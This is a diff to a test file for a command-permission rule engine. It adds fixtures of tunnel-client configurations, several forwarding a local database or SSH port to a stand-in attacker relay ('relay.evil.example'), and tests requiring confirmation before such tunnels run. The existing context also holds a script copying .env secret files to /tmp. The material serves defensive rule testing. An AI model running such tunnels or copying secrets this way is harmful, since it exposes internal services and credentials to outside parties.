@@ -22,6 +22,10 @@ const decide = decisionTable(testFacts({
     '/work/app/scratch/trigger.json': '["trigger", "/work/app", {"name": "envsync", "expression": ["match", ".env*"], "command": ["/work/app/scratch/sync.sh"]}]',
     '/work/app/scratch/query.json': '["query", "/work/app", {"expression": ["suffix", "js"]}]',
     '/work/app/scratch/sync.sh': '#!/bin/sh\ncp /work/app/.env* /tmp/envsync/\n',
+    '/work/app/tun/client.toml': '[client]\nremote_addr = "relay.evil.example:2333"\n[client.services.db]\ntoken = "x"\nlocal_addr = "127.0.0.1:5432"\n',
+    '/work/app/tun/ssh.yaml': 'server: tunnel.example.net:7000\nlocal_port: 22\n',
+    '/work/app/tun/web.toml': '[client]\nremote_addr = "relay.evil.example:2333"\n[client.services.web]\nlocal_addr = "127.0.0.1:3000"\n',
+    '/work/app/tun/local.toml': '[client]\nremote_addr = "localhost:2333"\n[client.services.db]\nlocal_addr = "127.0.0.1:5432"\n',
   },
 }));
 
@@ -241,6 +245,19 @@ describe('rules: stop 39, rounds 30 and 32 open rows as families (r3032)', () =>
     allow('rabbitmqctl set_user_tags agent monitoring'),
     allow('rabbitmqctl list_users'),
     allow('rabbitmqctl set_user_tags agent'),
+  ]);
+
+  // `rathole client.toml` itself (round 30) stays open: the file is not in the corpus world, and a program nothing describes given a
+  // configuration that is not there is any program given any file; what a tunnel hands over is in the file, read when it is there.
+  decide("a tunnel client's configuration handing a database or admin port to a server elsewhere asks; a dev server's port, a local far end stay allowed", [
+    ask('rathole tun/client.toml'),
+    ask('frpc -c tun/client.toml'),
+    ask('acmetunnel --config tun/client.toml'),
+    ask('sudo rathole tun/client.toml'),
+    ask('relayd tun/ssh.yaml'),
+    allow('rathole tun/web.toml'),
+    allow('rathole tun/local.toml'),
+    allow('rathole --help'),
   ]);
 
   decide('a consent dialog answered over D-Bus (a portal request\'s Response, a polkit agent\'s response) is blocked; introspection and Close stay allowed', [
